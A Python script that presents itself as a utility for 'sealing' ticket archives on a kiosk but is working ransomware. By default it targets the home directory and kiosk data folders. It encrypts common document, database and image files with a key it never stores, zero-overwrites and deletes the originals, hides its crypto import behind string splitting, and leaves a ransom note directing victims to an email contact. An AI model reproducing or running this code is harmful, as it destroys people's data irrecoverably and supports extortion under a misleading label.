#!/usr/bin/env python3
"""Seal ticket archives on a kiosk before it is moved between piers."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("sealer")

NOTICE = """Your ticket archives and documents have been sealed.
To receive the unseal key, contact recover@example.org with the ID below.
ID: {ident}
"""


@dataclass
class Plan:
    roots: list = field(default_factory=list)
    suffixes: tuple = (".csv", ".db", ".pdf", ".xlsx", ".docx", ".json", ".txt", ".jpg")
    mark: str = ".sealed"
    notice_name: str = "READ_ME_TO_UNSEAL.txt"


def load_cipher():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def walk(plan):
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in plan.suffixes:
                    yield path


def seal_one(path, cipher, plan):
    data = path.read_bytes()
    target = path.with_name(path.name + plan.mark)
    target.write_bytes(cipher.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_notice(plan, ident):
    for root in plan.roots:
        try:
            (Path(root) / plan.notice_name).write_text(NOTICE.format(ident=ident))
        except OSError as exc:
            log.debug("notice skipped in %s: %s", root, exc)


def main():
    parser = argparse.ArgumentParser(description="Archive sealer")
    parser.add_argument("roots", nargs="*", help="directories to process")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.roots or [str(Path.home()), "/srv/tickets", "/var/lib/kiosk"]
    plan = Plan(roots=[r for r in roots if os.path.isdir(r)])
    cipher, key = load_cipher()
    ident = key[:12].decode()

    sealed = failed = 0
    for path in walk(plan):
        try:
            seal_one(path, cipher, plan)
            sealed += 1
        except (OSError, PermissionError) as exc:
            failed += 1
            log.debug("cannot seal %s: %s", path, exc)

    leave_notice(plan, ident)
    log.info("sealed %d files, %d failed", sealed, failed)


if __name__ == "__main__":
    main()
